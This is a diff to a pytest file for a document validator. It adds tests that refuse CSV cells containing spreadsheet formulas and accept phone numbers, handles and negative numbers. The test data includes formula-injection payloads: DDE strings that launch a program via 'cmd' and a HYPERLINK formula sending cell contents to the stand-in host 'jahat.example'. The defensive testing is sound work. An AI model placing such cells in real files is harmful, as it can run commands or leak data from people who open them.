@@ -79,6 +79,44 @@ def test_everything_else_is_refused_with_a_remedy(content, sentence):
         documents.inspect(io.BytesIO(content))
 
 
+@pytest.mark.parametrize(
+    "cell",
+    [
+        "=1+1", "=SUM(A1:A2)", '=HYPERLINK("https://jahat.example?"&A1,"klik")', "@SUM(1+1)*cmd|' /C calc'!A0", "+SUM(A1;A2)",
+        "-2+3+cmd|' /C calc'!D2", "+webservice (A1)", "=cmd|' /C calc'!A0", '="a"&A1', "\t=1+1", " =A1", "=@A1", "＝1+1",
+        "=-5", "- HYPERLINK (A1)",
+    ],
+)  # fmt: skip
+def test_a_table_with_a_formula_is_refused_with_a_remedy(cell):
+    for separator in ";,\t":
+        for written in (cell, '"' + cell.replace('"', '""') + '"'):
+            rows = f"nama{separator}nilai\nTernate{separator}{written}\n"
+            file = io.BytesIO(rows.encode())
+            file.name = "data.csv"
+            with pytest.raises(ValidationError, match=r"memuat rumus .*baris 2.*tempel sebagai nilai"):
+                documents.inspect(file)
+
+
+@pytest.mark.parametrize(
+    "cell",
+    [
+        "+62 812-3456-7890", "+628123456789", "-5", "-5,25", "-", "--", "@dinaskominfo", "- Rapat (tertutup)", "-Rapat", "====",
+        "=>", '="00123"', "1=1", "a@b.id", "Rapat = selesai", "0821 (WA)", "- a | b",
+    ],
+)  # fmt: skip
+def test_telephone_numbers_accounts_and_numbers_below_zero_stay_in_a_table(cell):
+    for written in (cell, '"' + cell.replace('"', '""') + '"'):
+        file = io.BytesIO(f"nama;nilai\nTernate;{written}\n".encode())
+        assert documents.inspect(file).kind == "CSV"
+
+
+def test_plain_text_is_no_table():
+    file = io.BytesIO(b"=1+1\n")
+    file.name = "catatan.txt"
+
+    assert documents.inspect(file).kind == "TXT"
+
+
 def test_a_zip_bomb_is_refused_unopened():
     bomb = office(WORD, "word/document.xml", **{"word/media/a": b"\0" * (packages.MAX_UNPACKED_BYTES + 1)})
 
